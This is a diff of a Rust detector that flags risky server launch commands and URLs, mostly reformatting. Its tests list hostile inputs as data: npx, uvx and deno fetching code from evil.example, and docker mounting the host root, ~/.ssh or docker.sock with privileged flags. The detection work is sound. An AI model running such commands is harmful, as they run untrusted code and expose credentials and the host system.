@@ -33,7 +33,10 @@ pub(crate) struct Danger {
 
 impl Danger {
     pub(super) fn new(form: &str, reason: &'static str) -> Self {
-        Self { form: visible(form), reason }
+        Self {
+            form: visible(form),
+            reason,
+        }
     }
 }
 
@@ -53,10 +56,22 @@ impl Serialize for Danger {
 pub(crate) fn dangers(reach: &Reach, project: Option<&Path>) -> Vec<Danger> {
     let mut found = Vec::new();
     match reach {
-        Reach::Launch { command, args, env, cwd } => {
-            let words: Vec<String> = [command].into_iter().chain(args).map(|word| unset(word)).collect();
+        Reach::Launch {
+            command,
+            args,
+            env,
+            cwd,
+        } => {
+            let words: Vec<String> = [command]
+                .into_iter()
+                .chain(args)
+                .map(|word| unset(word))
+                .collect();
             if !variables(command).is_empty() {
-                found.push(Danger::new(command, "which program this is depends on a variable"));
+                found.push(Danger::new(
+                    command,
+                    "which program this is depends on a variable",
+                ));
             }
             found.extend(program::dangers(&words));
             found.extend(project.and_then(|_| program::of_project(&words)));
@@ -66,12 +81,23 @@ pub(crate) fn dangers(reach: &Reach, project: Option<&Path>) -> Vec<Danger> {
             found.extend(words.iter().filter_map(|word| open_address(word)));
             found.extend(words.iter().filter_map(|word| of_project(word, project?)));
             let pairs = env.iter().flat_map(|(name, value)| [name, value]);
-            found.extend(words.iter().chain(pairs).chain(cwd).filter_map(|text| hidden(text)));
+            found.extend(
+                words
+                    .iter()
+                    .chain(pairs)
+                    .chain(cwd)
+                    .filter_map(|text| hidden(text)),
+            );
         }
         Reach::Remote { url, headers, .. } => {
             found.extend(address(&unset(url)));
             let pairs = headers.iter().flat_map(|(name, value)| [name, value]);
-            found.extend([url].into_iter().chain(pairs).filter_map(|text| hidden(text)));
+            found.extend(
+                [url]
+                    .into_iter()
+                    .chain(pairs)
+                    .filter_map(|text| hidden(text)),
+            );
         }
     }
     let mut distinct = Vec::new();
@@ -86,11 +112,25 @@ pub(crate) fn dangers(reach: &Reach, project: Option<&Path>) -> Vec<Danger> {
 /// The name of a program without its folder, its ending and its version: `python` for
 /// `/usr/bin/python3.12`.
 fn program_name(word: &str) -> String {
-    let name = word.rsplit(['/', '\\']).next().unwrap_or(word).to_lowercase();
-    let name = name.strip_suffix(".exe").or_else(|| name.strip_suffix(".cmd")).unwrap_or(&name);
-    let name = name.strip_suffix(".js").or_else(|| name.strip_suffix(".mjs")).unwrap_or(name);
+    let name = word
+        .rsplit(['/', '\\'])
+        .next()
+        .unwrap_or(word)
+        .to_lowercase();
+    let name = name
+        .strip_suffix(".exe")
+        .or_else(|| name.strip_suffix(".cmd"))
+        .unwrap_or(&name);
+    let name = name
+        .strip_suffix(".js")
+        .or_else(|| name.strip_suffix(".mjs"))
+        .unwrap_or(name);
     let bare = name.trim_end_matches(|c: char| c.is_ascii_digit() || matches!(c, '.' | '-'));
-    if bare.is_empty() { name.to_owned() } else { bare.to_owned() }
+    if bare.is_empty() {
+        name.to_owned()
+    } else {
+        bare.to_owned()
+    }
 }
 
 /// A word that is an option, with the value behind its `=`.
@@ -98,24 +138,39 @@ fn option(word: &str) -> Option<(&str, Option<&str>)> {
     if !word.starts_with('-') || word == "-" {
         return None;
     }
-    Some(word.split_once('=').map_or((word, None), |(flag, value)| (flag, Some(value))))
+    Some(
+        word.split_once('=')
+            .map_or((word, None), |(flag, value)| (flag, Some(value))),
+    )
 }
 
 fn hidden(text: &str) -> Option<Danger> {
-    text.contains(is_hidden).then(|| Danger::new(text, "has characters that do not show as they are"))
+    text.contains(is_hidden)
+        .then(|| Danger::new(text, "has characters that do not show as they are"))
 }
 
 /// A server that others on the way can read and change.
 fn address(text: &str) -> Vec<Danger> {
     let mut found: Vec<_> = open_address(text).into_iter().collect();
-    let host_is_open = text.split('/').nth(2).is_some_and(|authority| authority.contains("${"));
+    let host_is_open = text
+        .split('/')
+        .nth(2)
+        .is_some_and(|authority| authority.contains("${"));
     match Url::parse(text) {
-        Ok(_) if host_is_open => found.push(Danger::new(text, "where this leads depends on a variable")),
+        Ok(_) if host_is_open => {
+            found.push(Danger::new(text, "where this leads depends on a variable"))
+        }
         Ok(url) if !url.username().is_empty() => {
-            found.push(Danger::new(text, "what stands before the @ is a user, not the host"));
+            found.push(Danger::new(
+                text,
+                "what stands before the @ is a user, not the host",
+            ));
         }
         Ok(url) if url.host_str().is_some_and(|host| host.contains("xn--")) => {
-            found.push(Danger::new(text, "its host has letters that may look like others"));
+            found.push(Danger::new(
+                text,
+                "its host has letters that may look like others",
+            ));
         }
         Ok(_) => {}
         Err(_) => found.push(Danger::new(text, "where this leads cannot be told")),
@@ -126,8 +181,16 @@ fn address(text: &str) -> Vec<Danger> {
 fn open_address(word: &str) -> Option<Danger> {
     let at = word.to_ascii_lowercase().find("http://")?;
     let url = Url::parse(&word[at..]).ok();
-    let local = url.as_ref().and_then(Url::host).is_some_and(|host| is_this_machine(&host));
-    (!local).then(|| Danger::new(&word[at..], "http: others on the way can read and change what is sent"))
+    let local = url
+        .as_ref()
+        .and_then(Url::host)
+        .is_some_and(|host| is_this_machine(&host));
+    (!local).then(|| {
+        Danger::new(
+            &word[at..],
+            "http: others on the way can read and change what is sent",
+        )
+    })
 }
 
 fn is_this_machine(host: &Host<&str>) -> bool {
@@ -144,7 +207,8 @@ fn of_project(word: &str, project: &Path) -> Option<Danger> {
     let path = Path::new(word);
     let inside = path.is_absolute() && path.starts_with(project) && path != project;
     let script = SCRIPTS.iter().any(|end| word.ends_with(end)) && !word.contains("://");
-    let relative = word.starts_with("./") || word.starts_with("../") || (script && path.is_relative());
+    let relative =
+        word.starts_with("./") || word.starts_with("../") || (script && path.is_relative());
     (inside || relative).then(|| Danger::new(word, "is a file that comes with the project"))
 }
 
@@ -157,7 +221,12 @@ mod tests {
     fn check(line: &str, expected: &[&str]) {
         let mut words = line.split('|').map(str::to_owned);
         let command = words.next().unwrap();
-        let reach = Reach::Launch { command, args: words.collect(), env: Vec::new(), cwd: None };
+        let reach = Reach::Launch {
+            command,
+            args: words.collect(),
+            env: Vec::new(),
+            cwd: None,
+        };
         let found = dangers(&reach, Some(Path::new("/shop")));
         let forms: Vec<_> = found.iter().map(|danger| danger.form.as_str()).collect();
         assert_eq!(forms, expected, "{line}");
@@ -193,7 +262,10 @@ mod tests {
         check("npx|--cal|touch x", &["npx --cal"]);
         check("npm|exec|-c|x", &["npm -c"]);
         check("node|-e|x", &["node -e"]);
-        check("node|--import|data:text/javascript,x|a.js", &["node --import", "a.js"]);
+        check(
+            "node|--import|data:text/javascript,x|a.js",
+            &["node --import", "a.js"],
+        );
         check("python3.12|-W|ignore|-c|x", &["python -c"]);
         check("python|-Ic|x", &["python -Ic"]);
         check("uv|run|python|-c|x", &["python -c", "uv run"]);
@@ -227,37 +299,76 @@ mod tests {
         check("docker|run|-v/:/host|x", &["-v /:/host"]);
         check("podman|run|-itv|~/.ssh:/k|x", &["-itv ~/.ssh:/k"]);
         check("docker|run|--volume=${HOME}:/h|x", &["--volume ${HOME}:/h"]);
-        check("docker|run|--mount|type=bind,src=/,dst=/h|x", &["--mount type=bind,src=/,dst=/h"]);
-        check("docker|run|--mount=src=/etc,dst=/h|x", &["--mount src=/etc,dst=/h"]);
+        check(
+            "docker|run|--mount|type=bind,src=/,dst=/h|x",
+            &["--mount type=bind,src=/,dst=/h"],
+        );
+        check(
+            "docker|run|--mount=src=/etc,dst=/h|x",
+            &["--mount src=/etc,dst=/h"],
+        );
         check("docker|run|--mount|type=volume,src=data,dst=/h|x", &[]);
         check("docker|run|--network|host|x", &["--network host"]);
         check("docker|run|--net=host|x", &["--net host"]);
-        check("docker|run|--pid|host|--ipc=host|x", &["--pid host", "--ipc host"]);
-        check("docker|run|--device|/dev/sda|--cap-add=ALL|x", &["--device /dev/sda", "--cap-add ALL"]);
-        check("docker|run|--security-opt|seccomp=unconfined|x", &["--security-opt seccomp=unconfined"]);
+        check(
+            "docker|run|--pid|host|--ipc=host|x",
+            &["--pid host", "--ipc host"],
+        );
+        check(
+            "docker|run|--device|/dev/sda|--cap-add=ALL|x",
+            &["--device /dev/sda", "--cap-add ALL"],
+        );
+        check(
+            "docker|run|--security-opt|seccomp=unconfined|x",
+            &["--security-opt seccomp=unconfined"],
+        );
         check(
             "docker|run|-v|/var/run/docker.sock:/var/run/docker.sock|x",
-            &["-v /var/run/docker.sock:/var/run/docker.sock", "/var/run/docker.sock:/var/run/docker.sock"],
+            &[
+                "-v /var/run/docker.sock:/var/run/docker.sock",
+                "/var/run/docker.sock:/var/run/docker.sock",
+            ],
         );
         check("sudo|docker|run|--privileged|x", &["sudo", "--privileged"]);
     }
 
     #[test]
     fn packages_from_elsewhere_are_marked() {
-        check("npx|-y|https://evil.example/x.tgz", &["https://evil.example/x.tgz"]);
+        check(
+            "npx|-y|https://evil.example/x.tgz",
+            &["https://evil.example/x.tgz"],
+        );
         check("npx|mallory/evil", &["mallory/evil"]);
         check("npx|-p|github:mallory/evil|evil", &["github:mallory/evil"]);
         check("npx|good@npm:evil", &["good@npm:evil"]);
-        check("npx|--registry=https://evil.example|x", &["--registry", "https://evil.example"]);
+        check(
+            "npx|--registry=https://evil.example|x",
+            &["--registry", "https://evil.example"],
+        );
         check("bunx|git+ssh://x/y", &["git+ssh://x/y"]);
-        check("uvx|--from|git+https://evil.example/x|x", &["git+https://evil.example/x"]);
-        check("uvx|--index-url|https://evil.example|x", &["--index-url", "https://evil.example"]);
-        check("uvx|--with|x @ https://evil.example|y", &["x @ https://evil.example"]);
+        check(
+            "uvx|--from|git+https://evil.example/x|x",
+            &["git+https://evil.example/x"],
+        );
+        check(
+            "uvx|--index-url|https://evil.example|x",
+            &["--index-url", "https://evil.example"],
+        );
+        check(
+            "uvx|--with|x @ https://evil.example|y",
+            &["x @ https://evil.example"],
+        );
         check("pipx|run|--spec|/tmp/x.whl|x", &["/tmp/x.whl"]);
-        check("deno|run|-A|https://evil.example/x.ts", &["deno run", "-A", "https://evil.example/x.ts"]);
+        check(
+            "deno|run|-A|https://evil.example/x.ts",
+            &["deno run", "-A", "https://evil.example/x.ts"],
+        );
         check("npx|-y|./evil", &["./evil"]);
         check("x|http://evil.example/", &["http://evil.example/"]);
-        check("x|--url=HTTP://localhost.evil.example/", &["HTTP://localhost.evil.example/"]);
+        check(
+            "x|--url=HTTP://localhost.evil.example/",
+            &["HTTP://localhost.evil.example/"],
+        );
         check("x|a\u{202e}b", &["a\\u{202e}b"]);
     }
 
@@ -318,7 +429,11 @@ mod tests {
             ("https://docs.exam\u{440}le/mcp", 1),
             ("https://${HOST}/mcp", 1),
         ] {
-            let reach = Reach::Remote { url: url.to_owned(), transport: None, headers: Vec::new() };
+            let reach = Reach::Remote {
+                url: url.to_owned(),
+                transport: None,
+                headers: Vec::new(),
+            };
             assert_eq!(dangers(&reach, None).len(), expected, "{url}");
         }
     }
